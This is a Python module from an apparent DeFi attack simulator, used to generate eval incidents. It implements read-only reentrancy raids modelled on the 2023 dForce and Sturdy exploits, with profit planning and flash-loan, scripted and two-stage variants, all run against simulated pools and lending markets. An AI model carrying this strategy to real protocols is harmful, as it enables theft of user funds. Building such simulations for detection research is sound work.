"""Read-only reentrancy: while a pool pays ether out, its virtual price is too high (dForce, Sturdy 2023)."""

from __future__ import annotations

from dataclasses import dataclass

from pipelines.simulation.attacks.family import Family
from pipelines.simulation.attacks.incident import (
    Incident,
    attacker,
    home,
    leave,
    run_flash,
    run_script,
    run_steps,
    runner,
)
from pipelines.simulation.bytecode import Reaction, Step
from pipelines.simulation.compile import contract
from pipelines.simulation.engine import Account
from pipelines.simulation.habits.lp_lending import pool_of
from pipelines.simulation.habits.saving import as_tuples
from pipelines.simulation.habits.stable_math import StableState
from pipelines.simulation.world import ETH, FOREVER, Part, Place, Session, World, step

_LEAST = ETH // 2


@dataclass(frozen=True)
class Raid:
    """Amounts of one attack, in base units."""

    market: Place
    pool: Place
    ether: int
    """Put into the pool."""
    pledged: int
    removed: int
    borrowed: int
    staked: int
    """Staked ether that the removal pays, and that is swapped back."""
    returned: int
    """Ether that comes back from the removal and the swap."""
    gain: int


def borrowable(state: StableState, removed: int, pledged: int, factor: int) -> tuple[int, int, int]:
    """Return what can be borrowed while ether is paid for `removed` shares; and what the removal pays."""
    supply = state.supply
    ether, staked = (balance * removed // supply for balance in state.balances)
    state.balances[0] -= ether
    state.supply -= removed
    price = state.virtual_price()
    state.balances[1] -= staked
    return pledged * price // 10**18 * factor // 100, ether, staked


def plan(world: World, most: int) -> Raid | None:
    """Return one of the raids that pay, spending at most `most` wei; not all take everything."""
    options = []
    greed = 0.25 + 0.75 * world.rng.random()
    for market in world.places.get("lp_market", []):
        pool = pool_of(world, market)
        if pool is None or pool.tokens[0].kind != "native":
            continue
        cash = int(world.view("lp_market", market.address, "cash") * greed)
        factor = world.view("lp_market", market.address, "factor")
        state = StableState.read(world, pool)
        for ether in (150, 300, 600, 1200, 2000, 3000):
            for part in (20, 50, 100, 180, 300):
                if ether * ETH <= most:
                    raid = _evaluate(market, pool, state, ether * ETH, part, cash, factor)
                    if raid.gain > _LEAST:
                        options.append(raid)
    return options[int(world.rng.integers(len(options)))] if options else None


def _evaluate(
    market: Place, pool: Place, state: StableState, ether: int, part: int, cash: int, factor: int
) -> Raid:
    """Try a raid that pledges `part` thousandths of the shares which `ether` buys."""
    trial = StableState(list(state.balances), state.scales, state.amplification, state.fee, state.supply)
    shares = trial.add([ether, 0])
    pledged = shares * part // 1000
    removed = shares - pledged
    limit, paid, staked = borrowable(trial, removed, pledged, factor)
    borrowed = min(limit * 999 // 1000, cash)
    returned = paid + trial.swap(1, 0, staked)
    gain = returned + borrowed - ether - ether // 1000
    return Raid(market, pool, ether, pledged, removed, borrowed, staked, returned, gain)


def read_only_reentrancy(world: World, incident: Incident) -> Session:
    """Borrow against a share at the moment when the pool that issued it counts too much for it."""
    own_money = world.chance(0.55)
    most = (1300 if own_money else 3000) * ETH
    found = plan(world, most)
    if found is None:
        return
    budget = found.ether if own_money else ETH
    who = yield from attacker(world, incident, budget / ETH * 1.03 + 0.5)
    incident.variant.append("own-money" if own_money else "flash-loan")
    draw = world.rng.random()
    if not own_money:
        yield from _by_loan(world, incident, who, most)
    elif draw < 0.35:
        yield from _by_script(world, incident, who, budget)
    else:
        yield from _in_two(world, incident, who, budget)
    if incident.exploits:
        incident.finish()
        yield from leave(world, incident, who)


def _enter(raid: Raid) -> list[Step]:
    """Return the steps up to the pledge; the contract holds the ether."""
    put = step("stable_pool", raid.pool.address, "add_liquidity", [raid.ether, 0], 0, value=raid.ether)
    return [
        put,
        step("token", raid.pool.address, "approve", raid.market.address, raid.pledged),
        step("lp_market", raid.market.address, "deposit", raid.pledged),
    ]


def _swap_back(raid: Raid) -> list[Step]:
    return [
        step("token", raid.pool.tokens[1].address, "approve", raid.pool.address, FOREVER),
        step("stable_pool", raid.pool.address, "exchange", 1, 0, raid.staked, 0),
    ]


def _by_loan(world: World, incident: Incident, who: Account, most: int) -> Part:
    """Everything inside a flash loan, with an executor that reacts to the ether."""
    tool = yield from runner(world, incident, who)
    raid = plan(world, most)
    if raid is None:
        return
    weth = world.weth.address
    borrow = contract("lp_market").data("borrow", raid.borrowed)
    missing = raid.ether + raid.ether // 900 + 1 - raid.borrowed
    steps = [
        step("weth", weth, "withdraw", raid.ether),
        *_enter(raid),
        step("executor", tool.address, "onReceive", raid.market.address, borrow, 0, 1),
        step("stable_pool", raid.pool.address, "remove_liquidity", raid.removed, [0, 0]),
        *_swap_back(raid),
    ]
    if missing > 0:
        steps.append(step("weth", weth, "deposit", value=missing))
    yield from run_flash(world, incident, who, tool, steps, raid.ether)
    yield from home(world, incident, who, tool)


def _by_script(world: World, incident: Incident, who: Account, most: int) -> Part:
    """A contract made for the purpose borrows when ether reaches it; a stale one is made anew."""
    incident.variant.append("script")
    for _ in range(6):
        raid = plan(world, most)
        if raid is None:
            return
        borrow = step("lp_market", raid.market.address, "borrow", raid.borrowed)
        remove = step("stable_pool", raid.pool.address, "remove_liquidity", raid.removed, [0, 0])
        profit = [
            step("weth", world.weth.address, "transfer", who.address, raid.borrowed),
            # Fails unless enough ether is back, so that a stale script does nothing.
            Step(who.address, raid.returned - raid.gain // 4, b""),
        ]
        steps = [*_enter(raid), remove, *_swap_back(raid), *profit]
        ether = Reaction(bytes(4), [borrow])
        done = yield from run_script(world, incident, who, steps, reactions=[ether], value=raid.ether)
        if done:
            return


def _in_two(world: World, incident: Incident, who: Account, most: int) -> Part:
    """Enter and pledge like any provider; later remove the rest and borrow on the receipt of ether."""
    tool = yield from runner(world, incident, who)
    raid = plan(world, most)
    if raid is None:
        return
    incident.variant.append("several")
    pool, market = raid.pool.address, raid.market.address
    data = as_tuples(_enter(raid))
    yield incident.call("prep", who, "executor", tool.address, "run", data, value=raid.ether)
    for _ in range(int(world.rng.integers(12))):
        yield None
    state = StableState.read(world, raid.pool)
    removed = world.view("token", pool, "balanceOf", tool.address)
    factor = world.view("lp_market", market, "factor")
    before = state.virtual_price()
    limit, _, staked = borrowable(state, removed, raid.pledged, factor)
    borrowed = min(limit * 999 // 1000, world.view("lp_market", market, "cash"))
    if borrowed * 1000 < raid.pledged * before // 10**18 * 1005:
        # Somebody else has taken the cash meanwhile: leave as any provider would.
        shares = removed + raid.pledged
        undo = [
            step("lp_market", market, "withdraw", raid.pledged),
            step("stable_pool", pool, "remove_liquidity", shares, [0, 0]),
        ]
        yield incident.call("exit", who, "executor", tool.address, "run", as_tuples(undo))
        return
    borrow = contract("lp_market").data("borrow", borrowed)
    arm = ("onReceive", market, borrow, 0, 1)
    steps = [step("stable_pool", pool, "remove_liquidity", removed, [0, 0])]
    if world.chance(0.5):
        yield incident.call("prep", who, "executor", tool.address, *arm)
    else:
        steps.insert(0, step("executor", tool.address, *arm))
    yield from run_steps(world, incident, who, tool, steps)
    approve, _ = _swap_back(raid)
    swap = [approve, step("stable_pool", pool, "exchange", 1, 0, staked, 0)]
    yield incident.call("exploit", who, "executor", tool.address, "run", as_tuples(swap))
    yield from home(world, incident, who, tool)


FAMILIES = (
    Family(
        name="read_only_reentrancy",
        tier="structural",
        split="eval",
        modelled_on="dForce and Sturdy (2023)",
        about="While a pool pays ether out, its virtual price is too high; the receiver borrows against it "
        "right then.",
        run=read_only_reentrancy,
    ),
)
